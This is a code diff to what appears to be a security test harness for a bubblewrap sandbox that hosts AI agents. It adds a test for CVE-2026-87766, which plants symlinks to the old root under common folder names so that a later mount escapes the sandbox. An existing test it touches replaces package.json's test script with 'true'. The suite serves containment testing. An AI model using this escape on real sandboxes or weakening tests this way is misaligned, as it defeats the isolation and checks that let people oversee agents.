@@ -1,4 +1,5 @@
 import { execFileSync, spawn } from "node:child_process";
+import { once } from "node:events";
 import { mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
 import { readFile, realpath, writeFile } from "node:fs/promises";
 import { join } from "node:path";
@@ -13,6 +14,7 @@ import { runStaticCheck } from "../../worker/verify/static-check.ts";
 import { STATIC_CHECKS } from "../../worker/verify/static-checks.ts";
 import { giveTo } from "../../worker/workspace/workspace.ts";
 import type { AttackGroup, Fact } from "../attack.ts";
+import { NotApplicable } from "../attack.ts";
 import { readOut } from "../room/facts.ts";
 import { inRooms } from "../room/in-rooms.ts";
 import { capture } from "../room/landing.ts";
@@ -105,6 +107,20 @@ export const hostSide: AttackGroup = {
       });
       return readOut({ stdout, stderr }, marker);
     }),
+    inRooms("lead-a-mount-astray", "own", async (room) => {
+      // CVE-2026-87766: a symlink where a later mount point is made, through the root that bubblewrap had before.
+      const outside = join(room.folder, "outside");
+      mkdirSync(outside, { mode: 0o777 });
+      await giveTo(room.sandbox.slotOwner(0), outside);
+      const names = ["sub", "git", "objs", "scratch", "offload", "base.git", "node_modules"];
+      await room.run(names.map((name) => `ln -s /oldroot${outside} ${name}`).join("; "));
+      if (room.kind === "sandbox") await room.run("true");
+      else await mountBelow(room, "/work/sub/made");
+      const made = readdirSync(outside);
+      if (room.kind === "plain" && made.length === 0)
+        throw new NotApplicable("this bubblewrap does not follow the symlink");
+      return { worked: made.length > 0, seen: `outside appeared: ${made.join(", ") || "nothing"}` };
+    }),
     inRooms("weaken-the-scripts", "host table", (room) =>
       judgeChange(room, `echo '{"name":"attacked","version":"1.0.0","scripts":{"test":"true"}}' > package.json`),
     ),
@@ -155,6 +171,13 @@ async function swapWhileWriting(room: Room): Promise<Fact> {
   }
   const escaped = readdirSync(outside).length;
   return { worked: escaped > 0, seen: `${escaped} of ${rounds} writes got out` };
+}
+
+/** bubblewrap as it comes, asked to mount below a folder that an agent has written in. */
+async function mountBelow({ sandbox, workspace, home }: Room, target: string): Promise<void> {
+  const view = ["--ro-bind", "/usr", "/usr", "--symlink", "usr/lib64", "/lib64", "--symlink", "usr/lib", "/lib"];
+  const args = [...view, "--bind", workspace.work, "/work", "--bind", home, target, "/usr/bin/true"];
+  await once(spawn(sandbox.bwrap, ["--unshare-user", ...args], { stdio: "ignore", ...sandbox.slotOwner(0) }), "close");
 }
 
 function publishNote({ layout, jobId, workspace }: Room, name = "note") {
